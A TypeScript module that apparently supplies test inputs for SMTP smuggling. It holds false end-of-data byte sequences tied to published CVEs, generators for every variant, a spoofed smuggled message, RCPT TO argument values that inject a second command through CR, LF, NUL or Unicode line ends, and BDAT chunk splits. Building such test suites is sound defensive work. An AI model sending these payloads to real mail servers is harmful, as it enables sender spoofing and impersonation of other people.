// Owns the bytes of SMTP smuggling: ends of a message that are none, and what stands behind them. Every published one, with its source.

/** The only end there is (RFC 5321 §4.1.1.4). */
export const TRUE_END = '\r\n.\r\n';

export interface FalseEnd {
  readonly bytes: string;
  /** Who was found to take it for an end, or to send it on. */
  readonly source: string;
}

/**
 * First the ones of "SMTP Smuggling – Spoofing E-Mails Worldwide" (SEC Consult, December 2023; CERT VU#302671), then those of the tools
 * and advisories that followed. The tools are SMTP-Smuggling-Tools (SEC Consult) and smtpsmug (Hanno Böck).
 */
export const PUBLISHED_ENDS: readonly FalseEnd[] = [
  { bytes: '\n.\r\n', source: 'CVE-2023-51764 Postfix, -51766 Exim; sent on by Exchange Online and GMX' },
  { bytes: '\n.\n', source: 'CVE-2023-51765 Sendmail, CVE-2023-51747 James, CVE-2024-27305 aiosmtpd' },
  { bytes: '\r.\r', source: 'VU#302671: Cisco Secure Email, which made CRLF of each CR' },
  { bytes: '\r\n.\n', source: 'CVE-2023-51764 Postfix, CVE-2024-27938 Postal' },
  { bytes: '\r\n.\r', source: 'smtpsmug' },
  { bytes: '\n.\r', source: 'SMTP-Smuggling-Tools' },
  { bytes: '\r.\n', source: 'SMTP-Smuggling-Tools' },
  { bytes: '\r.\r\n', source: 'SMTP-Smuggling-Tools' },
  {
    bytes: '\r\r\n.\r\r\n',
    source: 'SMTP-Smuggling-Tools; Postfix before 3.9-20240106 made one CRLF of each CR CR LF',
  },
  { bytes: '\r\n.\r\r\n', source: 'SMTP-Smuggling-Tools' },
  { bytes: '\r\n\0.\r\n', source: 'SMTP-Smuggling-Tools, smtpsmug: servers that drop NULs' },
  { bytes: '\r\n.\0\r\n', source: 'smtpsmug: the same behind the dot' },
];

const LINE_ENDS = ['\r\n', '\n', '\r', '\r\r\n', '\n\r', '\r\0\n', '\0\r\n', '\r\n\0'];
const DOTS = ['.', '\0.', '.\0'];

/** Whatever can be made of line ends, a dot and a NUL; the published ones are among them. */
export const FALSE_ENDS: readonly string[] = LINE_ENDS.flatMap((before) =>
  DOTS.flatMap((dot) => LINE_ENDS.map((after) => before + dot + after)),
).filter((end) => !end.includes(TRUE_END));

/** With line ends that no mail system is known to use but that programs which read text as Unicode do: ordinary text. */
export const UNICODE_ENDS: readonly string[] = [
  '\x0b.\x0b',
  '\x0c.\x0c',
  '\x85.\x85',
  '\xc2\x85.\xc2\x85',
  '\xe2\x80\xa8.\xe2\x80\xa8',
  '\x1e.\x1e',
];

/** A message of somebody else's, as it stands behind a false end. */
export function smuggled(given: { mailFrom: string; recipient: string }): string {
  return `MAIL FROM:<${given.mailFrom}>\r\nRCPT TO:<${given.recipient}>\r\nDATA\r\nFrom: ${given.mailFrom}\r\n\r\nsmuggled`;
}

/**
 * Arguments in which a line end hides: CR and LF in a quoted local part (CVE-2026-30227 MimeKit) or wherever else a client takes them
 * from a user (CVE-2025-7962 Jakarta Mail), and characters whose lowest octet is one of them, for programs that cut the others off.
 */
export const COMMAND_INJECTIONS: readonly ((more: string) => string)[] = [
  (more) => `RCPT TO:<alice@example.org>\r${more}`,
  (more) => `RCPT TO:<alice@example.org> NOTIFY=NEVER\r${more}`,
  (more) => `RCPT TO:<"alice\r${more}"@example.org>`,
  (more) => `RCPT TO:<"alice\n${more}"@example.org>`,
  (more) => `RCPT TO:<"alice\0${more}"@example.org>`,
  (more) => `RCPT TO:<"alice\\\r\\\n${more}"@example.org>`,
  (more) => `RCPT TO:<"alice\u010d\u010a${more}"@example.org>`,
  (more) => `RCPT TO:<"alice\u2028${more}"@example.org>`,
  (more) => `RCPT TO:<alice@example.org> ORCPT=rfc822;a\u010d\u010a${more.replaceAll(' ', '+20')}`,
];

/** The plainest of them: for servers that take a bare LF for the end of a command, two commands. */
export const BARE_LF_INJECTION = (more: string): string => `RCPT TO:<alice@example.org>\n${more}`;

export interface ChunkedText {
  readonly name: string;
  readonly chunks: readonly string[];
}

/** Text that looks like the end of a message with commands behind it, and is neither in a chunk (RFC 3030 §2): one message, as it is. */
export function chunkedTexts(header: string, attack: string): ChunkedText[] {
  const text = `${header}\r\nfirst${TRUE_END}${attack}\r\n`;
  const at = header.length + '\r\nfirst'.length;
  const cuts = [0, 1, 2, 3, 4, 5].map((cut) => at + cut);
  return [
    { name: 'in one chunk', chunks: [text] },
    ...cuts.map((cut) => ({
      name: `cut behind ${cut - at} octets of it`,
      chunks: [text.slice(0, cut), text.slice(cut)],
    })),
    { name: 'each octet of it in a chunk', chunks: [text.slice(0, at), ...TRUE_END, text.slice(at + 5)] },
    { name: 'at the very beginning of the body', chunks: [`${header}\r\n.\r\n${attack}\r\n`] },
    { name: 'with commands of BDAT', chunks: [`${header}\r\nfirst${TRUE_END}BDAT 5 LAST\r\nabcdeQUIT\r\n`] },
    { name: 'at the end, where no line end follows', chunks: [`${header}\r\nfirst\r\n.`, ''] },
  ];
}

/** False ends in a chunk: "smtpd_forbid_bare_newline = reject" of Postfix 3.9 covers BDAT too, since its text is lines as any other. */
export function chunkedFalseEnds(header: string, attack: string): ChunkedText[] {
  return PUBLISHED_ENDS.flatMap(({ bytes, source }) => {
    const begin = `${header}\r\nfirst`;
    const text = `${begin}${bytes}${attack}\r\n`;
    const cuts = [1, bytes.length - 1].map((cut) => begin.length + cut);
    return [[text], ...cuts.map((cut) => [text.slice(0, cut), text.slice(cut)])].map((chunks) => ({
      name: `${JSON.stringify(bytes)}: ${source}`,
      chunks,
    }));
  });
}
